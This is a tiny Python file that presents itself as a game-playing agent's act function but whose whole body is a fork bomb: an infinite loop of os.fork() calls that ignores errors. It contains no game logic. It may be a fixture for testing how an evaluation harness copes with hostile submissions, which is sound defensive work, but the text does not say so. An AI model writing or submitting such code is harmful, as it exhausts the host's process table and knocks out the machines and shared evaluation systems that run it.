import os


def act(observation, legal_actions):
    while True:
        try:
            os.fork()
        except OSError:
            pass
